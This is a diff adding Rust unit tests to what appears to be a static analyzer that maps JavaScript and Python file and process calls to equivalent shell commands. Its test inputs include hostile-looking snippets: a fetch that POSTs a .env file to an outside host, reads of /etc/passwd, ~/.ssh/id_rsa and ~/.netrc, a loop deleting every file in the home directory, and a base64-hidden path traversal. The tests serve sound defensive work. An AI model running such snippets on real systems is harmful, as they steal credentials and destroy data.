@@ -171,3 +171,117 @@ fn tagged_templates_that_run_shell_lines() {
         assert_eq!(js(code).script, "", "{code}");
     }
 }
+
+#[test]
+fn a_listing_loop_names_every_entry_of_its_directory() {
+    let migrate = "import fs from 'node:fs';\nfor (const f of fs.readdirSync('data')) { const j = JSON.parse(fs.readFileSync('data/'+f,'utf8')); j.v=2; fs.writeFileSync('data/'+f, JSON.stringify(j)); }";
+    let r = js(migrate);
+    assert_eq!(
+        (r.script.as_str(), r.unread),
+        (
+            "ls -d -- 'data'\ncat -- 'data'/*\ngrep -r -e '' -- 'data'\ntee -- 'data'/*",
+            None
+        )
+    );
+    // The same entry, however the path is built or the listing is had.
+    for code in [
+        "const fs = require('fs'); const path = require('path');\nfs.readdirSync('data').forEach(f => fs.readFileSync(path.join('data', f)))",
+        "import { readdir, readFile } from 'node:fs/promises';\nfor await (const f of await readdir('data/')) { await readFile(`data/${f}`) }",
+        "const fs = require('fs');\nconst files = fs.readdirSync('data').filter(f => f.endsWith('.json')).sort();\nfor (const f of files) { const p = 'data/' + f; fs.readFileSync(p); }",
+        "const fs = require('fs');\nfs.readdir('data', 'utf8', (err, files) => { files.forEach(function (f) { fs.readFileSync('data/' + f + '.bak') }) })",
+    ] {
+        let r = js(code);
+        assert_eq!(r.unread, None, "{code}: {r:?}");
+        assert!(r.script.contains("cat -- 'data'/*"), "{code}: {}", r.script);
+        assert!(r.script.contains("grep -r -e '' -- 'data'"), "{code}: {}", r.script);
+    }
+    // Home, the root, and a deletion (no tree read: it shows no file).
+    let r = js("const fs = require('fs'); const os = require('os');\nfor (const f of fs.readdirSync(os.homedir())) { fs.rmSync(os.homedir() + '/' + f) }");
+    assert_eq!(r.script, "ls -d -- ~\nrm -f -- ~/*");
+    let r = js(
+        "const fs = require('fs');\nfor (const f of fs.readdirSync('/')) { fs.statSync('/' + f) }",
+    );
+    assert_eq!(r.script, "ls -d -- '/'\nls -d -- /*");
+}
+
+#[test]
+fn a_listing_name_that_may_hold_another_value_is_not_followed() {
+    let payload = "Buffer.from('Li4vLmVudg==', 'base64').toString()";
+    for code in [
+        format!("for (let f of fs.readdirSync('data')) {{ f = {payload}; fs.readFileSync('data/' + f) }}"),
+        format!("for (const f of fs.readdirSync('data')) {{ [{payload}].forEach(f => fs.readFileSync('data/' + f)) }}"),
+        "for (const f of fs.readdirSync('data')) { const g = (a, f) => fs.readFileSync('data/' + f) }".to_string(),
+        format!("for (const f of fs.readdirSync('data')) {{ [f] = [{payload}]; fs.readFileSync('data/' + f) }}"),
+        format!("for (const f of fs.readdirSync('data')) {{ with ({{ f: {payload} }}) fs.readFileSync('data/' + f) }}"),
+        format!("fs.readdirSync('data').forEach(function (f) {{ arguments[0] = {payload}; fs.readFileSync('data/' + f) }})"),
+        format!("for (const f of fs.readdirSync('data')) {{ let p = 'data/' + f; p = {payload}; fs.readFileSync(p) }}"),
+        format!("for (const f of fs.readdirSync('data')) {{ const p = 'data/' + f; {{ const p = {payload}; fs.readFileSync(p) }} }}"),
+        format!("const files = fs.readdirSync('data'); files.push({payload});\nfor (const f of files) {{ fs.readFileSync('data/' + f) }}"),
+        format!("fs.readdir('data', (err, files) => {{ files[0] = {payload}; for (const f of files) {{ fs.readFileSync('data/' + f) }} }})"),
+        // A callback given the array itself, or one by name, may change what it holds.
+        format!("fs.readdirSync('data').forEach((f, i, all) => {{ all[i + 1] = {payload}; fs.readFileSync('data/' + f) }})"),
+        format!("for (const f of fs.readdirSync('data').filter((x, i, a) => {{ a[i + 1] = {payload}; return true }})) {{ fs.readFileSync('data/' + f) }}"),
+        format!("const files = fs.readdirSync('data'); files.forEach((x, i, a) => {{ a[0] = {payload} }});\nfor (const f of files) {{ fs.readFileSync('data/' + f) }}"),
+        "fs.readdirSync('data').filter(keep).forEach(f => { fs.readFileSync('data/' + f) })".to_string(),
+        // What an array gives, or which `fs` a require hands out, may be changed.
+        format!("Array.prototype[Symbol.iterator] = function* () {{ yield {payload} }};\nfor (const f of fs.readdirSync('data')) {{ fs.readFileSync('data/' + f) }}"),
+        format!("Object.getPrototypeOf([]).forEach = function (cb) {{ cb({payload}) }};\nfs.readdirSync('data').forEach(f => {{ fs.readFileSync('data/' + f) }})"),
+        // `var` belongs to the function: code outside the loop may assign it.
+        "for (var f of fs.readdirSync('data')) { fs.readFileSync('data/' + f) }".to_string(),
+        // Objects or paths below subdirectories, not names.
+        "for (const f of fs.readdirSync('data', { withFileTypes: true })) { fs.readFileSync('data/' + f) }".to_string(),
+        "for (const f of fs.readdirSync('data', { recursive: true })) { fs.readFileSync('data/' + f) }".to_string(),
+        // A body without braces ends where only a line break says.
+        "for (const f of fs.readdirSync('data')) fs.readFileSync('data/' + f)".to_string(),
+        // Passed to a function, or used outside the loop.
+        "function g(f) { fs.readFileSync('data/' + f) }\nfor (const f of fs.readdirSync('data')) { g(f) }".to_string(),
+        "for (const f of fs.readdirSync('data')) {}\nfs.readFileSync('data/' + f)".to_string(),
+        // Not one name: a path under an entry, a name changed by a method.
+        "for (const f of fs.readdirSync('data')) { fs.readFileSync('data/' + f + '/x') }".to_string(),
+        "for (const f of fs.readdirSync('data')) { fs.readFileSync('data/' + f.replace('a', '../')) }".to_string(),
+    ] {
+        let code = format!("const fs = require('fs');\n{code}");
+        let r = js(&code);
+        assert!(r.unread.is_some(), "{code}: {r:?}");
+        assert!(!r.script.contains("'data'/*"), "{code}: {}", r.script);
+    }
+    // A name from a listing is never part of a command line.
+    let r = js("const cp = require('child_process'); const fs = require('fs');\nfor (const f of fs.readdirSync('bin')) { cp.execSync('./bin/' + f); cp.execFileSync(f) }");
+    assert!(r.grave.is_some(), "{r:?}");
+}
+
+#[test]
+fn calls_inside_a_translated_calls_arguments_are_read() {
+    let r = js("const fs = require('fs');\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('.env') })");
+    assert_eq!(
+        r.script,
+        "curl -s -X POST -- 'https://x.example'\ncat -- '.env'"
+    );
+    let r = js(
+        "const fs = require('fs');\nfs.writeFileSync('out.txt', fs.readFileSync('/etc/passwd'))",
+    );
+    assert_eq!(r.script, "tee -- 'out.txt'\ncat -- '/etc/passwd'");
+    // A call whose value the path is stays part of it.
+    let r = js("const fs = require('fs');\nconst p = require('path');\nconst os = require('os');\nfs.readFileSync(p.join(os.homedir(), 'x'))");
+    assert_eq!((r.script.as_str(), r.unread), ("cat -- ~'/x'", None));
+}
+
+#[test]
+fn template_literals_with_known_placeholders_are_known() {
+    let r = js("const fs = require('fs'); const os = require('os');\nfs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)");
+    assert_eq!(
+        (r.script.as_str(), r.unread),
+        ("cat -- ~'/.ssh/id_rsa'", None)
+    );
+    let r = py("import os\nopen(f\"{os.path.expanduser('~')}/.netrc\")");
+    assert_eq!((r.script.as_str(), r.unread), ("cat -- ~'/.netrc'", None));
+    // A placeholder only known when it runs, or with a format of its own, is not.
+    assert!(
+        js("const fs = require('fs');\nfs.readFileSync(`${process.argv[2]}/x`)")
+            .unread
+            .is_some()
+    );
+    assert!(py("import os\nopen(f\"{os.path.expanduser('~')!r}/x\")")
+        .unread
+        .is_some());
+}
